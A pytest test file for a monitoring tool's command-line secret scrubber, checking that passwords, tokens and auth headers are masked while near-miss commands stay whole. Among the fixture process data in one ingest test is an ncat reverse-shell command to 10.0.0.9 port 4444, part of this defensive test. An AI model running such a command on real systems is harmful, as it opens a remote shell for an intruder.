"""Command-line scrubbing: one table of cases, each a secret that must go and the words
around it that must stay; near misses (ssh's -p port, ls -a, docker's -p and -u) stay whole."""

from __future__ import annotations

from typing import Any

import pytest
from litestar.testing import TestClient

from kefal_lite.clock import FrozenClock
from kefal_lite.config import Settings
from kefal_lite.scrub import MASK, scrub
from kefal_lite.store.hosts import unpack
from tests.builders import base, proc
from tests.conftest import enroll, login, query, register

# (command line, what the scrubbed line must be)
CASES = [
    # already handled before
    ("mysqld --password=hunter2 --user=db", "mysqld --password=*** --user=db"),
    ("app --api-key abc123 --port 80", "app --api-key *** --port 80"),
    ("curl https://bob:s3cret@example.org/x", "curl https://bob:***@example.org/x"),
    ("env PGPASSWORD=xyz psql", "env PGPASSWORD=*** psql"),
    ("run token:abcdef", "run token:***"),
    ("app --secret='two words' -v", "app --secret=*** -v"),
    # Authorization headers keep their scheme, lose the credential
    ("curl -H 'Authorization: Bearer eyJhbGciOi.x.y' https://api/", "curl -H 'Authorization: Bearer ***' https://api/"),
    ('curl -H "Authorization: Basic dXNlcjpwYXNz" https://api/', 'curl -H "Authorization: Basic ***" https://api/'),
    ("wget --header=Authorization:token ghp_abc https://x/", "wget --header=Authorization:token *** https://x/"),
    ("curl -H 'authorization: s3cr3t' x", "curl -H 'authorization: ***' x"),
    ("curl -H 'Proxy-Authorization: Bearer tkn' x", "curl -H 'Proxy-Authorization: Bearer ***' x"),
    ("curl -H 'Cookie: session=abc; csrf=def' x", "curl -H 'Cookie: ***' x"),
    # mysql family: -pSECRET attached
    ("mysql -u root -pS3cret db", "mysql -u root -p*** db"),
    ("/usr/bin/mysqldump -h db -pS3cret --all-databases", "/usr/bin/mysqldump -h db -p*** --all-databases"),
    ("mariadb -pS3cret", "mariadb -p***"),
    ("sh -c 'mysql -pS3cret -e \"select 1\"'", "sh -c 'mysql -p*** -e \"select 1\"'"),
    # curl -u user:pass
    ("curl -u bob:S3cret https://x/", "curl -u bob:*** https://x/"),
    ("curl -ubob:S3cret https://x/", "curl -ubob:*** https://x/"),
    ("curl --user=bob:S3cret https://x/", "curl --user=bob:*** https://x/"),
    ("curl --proxy-user bob:S3cret https://x/", "curl --proxy-user bob:*** https://x/"),
    # sshpass, and the ssh port after it stays
    ("sshpass -p S3cret ssh -p 2222 host", "sshpass -p *** ssh -p 2222 host"),
    ("sshpass -pS3cret scp f host:", "sshpass -p*** scp f host:"),
    # redis-cli -a
    ("redis-cli -h cache -a S3cret ping", "redis-cli -h cache -a *** ping"),
    ("redis-cli --no-auth-warning -a S3cret", "redis-cli --no-auth-warning -a ***"),
    # docker login
    ("docker login -u bob -p S3cret ghcr.io", "docker login -u bob -p *** ghcr.io"),
    ("docker login --password S3cret ghcr.io", "docker login --password *** ghcr.io"),
    ("podman login --password=S3cret quay.io", "podman login --password=*** quay.io"),
    # URLs with inline passwords, any scheme, empty user too
    ("redis-server --replicaof redis://:S3cret@10.0.0.5:6379", "redis-server --replicaof redis://:***@10.0.0.5:6379"),
    ("psql postgresql://app:S3cret@db:5432/app", "psql postgresql://app:***@db:5432/app"),
    ("git clone https://x-access:ghp_S3cret@github.com/o/r", "git clone https://x-access:***@github.com/o/r"),
    # 7z -pSECRET
    ("7z x -pS3cret archive.7z", "7z x -p*** archive.7z"),
    # review: quoted values, as cron lines and `sh -c` strings keep them
    ("sh -c \"mysqldump -u root -p'S3cret' db\"", "sh -c \"mysqldump -u root -p*** db\""),
    ("sh -c 'mysql -p\"S3cret\" db'", "sh -c 'mysql -p*** db'"),
    ("sh -c \"curl -u 'bob:S3cret' https://x/\"", "sh -c \"curl -u 'bob:***' https://x/\""),
    ("sh -c \"redis-cli -a 'S3cret' ping\"", "sh -c \"redis-cli -a *** ping\""),
    ("app --password 'two S3cret words' -v", "app --password *** -v"),
    ("sshpass -p 'S3cret' ssh host", "sshpass -p *** ssh host"),
    # review: a token as the whole userinfo of an http(s) URL (GitHub/GitLab tokens)
    ("git clone https://ghp_S3cret@github.com/o/r", "git clone https://***@github.com/o/r"),
    # review: other tools with a password option
    ("ldapsearch -x -D cn=admin -w S3cret -b dc=x", "ldapsearch -x -D cn=admin -w *** -b dc=x"),
    ("sqlcmd -S db -U sa -P S3cret -Q 'select 1'", "sqlcmd -S db -U sa -P *** -Q 'select 1'"),
    ("ipmitool -I lanplus -H bmc -U admin -P S3cret power status", "ipmitool -I lanplus -H bmc -U admin -P *** power status"),
    ("smbclient //fs/share -U bob%S3cret", "smbclient //fs/share -U bob%***"),
    ("zip -P S3cret out.zip file", "zip -P *** out.zip file"),
]  # fmt: skip

NEAR_MISSES = [
    "ssh -p 22 host",
    "ssh -p2222 host",
    "ls -a /tmp",
    "ps -u root",
    "docker run -p 8080:80 -u 1000:1000 nginx",
    "docker login --password-stdin ghcr.io",
    "mysql -p",
    "mysql -P 3306 -h db",
    "mysql -p mydb",
    "curl https://example.org:8443/path",
    "curl -o out.json https://api/",
    "nginx: worker process",
    "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
    "rsync -a src/ dst/",
    "tar -cpf x.tar dir",
    "python3 -m http.server 8000",
    "git push origin main",
    "redis-server *:6379",
    "git clone ssh://git@github.com/o/r",
    "ldapsearch -x -W -b dc=x",
    "zip -r out.zip dir",
    "smbclient -L fs -U bob",
]


@pytest.mark.parametrize("raw, expected", CASES)
def test_scrub_masks_the_secret_and_keeps_the_rest(raw: str, expected: str) -> None:
    out = scrub(raw)
    assert out == expected
    assert "S3cret" not in out and "hunter2" not in out
    assert scrub(out) == out  # a second pass (the server's) changes nothing


@pytest.mark.parametrize("raw", NEAR_MISSES)
def test_scrub_leaves_near_misses_whole(raw: str) -> None:
    assert scrub(raw) == raw
    assert MASK not in scrub(raw)


def test_server_scrubs_what_an_agent_did_not(client: TestClient[Any], clock: FrozenClock,
                                             settings: Settings) -> None:  # fmt: skip
    """An old or third-party agent sends secrets in command lines: none is stored or shown."""
    register(client, "alice")
    session = login(client, "alice")
    agent = enroll(client, "alice")
    snap = base(0, agent["agent_id"])
    snap["timestamp"] = clock.now().strftime("%Y-%m-%dT%H:%M:%SZ")
    snap["processes"] = [*snap["processes"],
                         proc("mysql", pid=900, cmdline="mysql -u root -pS3cret app"),
                         proc("curl", pid=901, cmdline="curl -H 'Authorization: Bearer S3cret' x"),
                         proc("ncat", pid=902, cmdline="ncat -e /bin/sh 10.0.0.9 4444")]  # fmt: skip
    r = client.post("/api/v1/ingest", json=snap,
                    headers={"Authorization": f"Bearer {agent['token']}"})  # fmt: skip
    assert r.status_code == 200, r.text
    [(body,)] = query(settings, "SELECT body FROM snapshots")
    stored = unpack(body)
    assert stored is not None and b"S3cret" not in stored and b"-p***" in stored
    [(host_id,)] = query(settings, "SELECT id FROM hosts")
    detail = client.get(f"/api/v1/hosts/{host_id}", headers=session).text
    assert "S3cret" not in detail and "Bearer ***" in detail
    assert "S3cret" not in client.get("/api/v1/incidents?status=all", headers=session).text
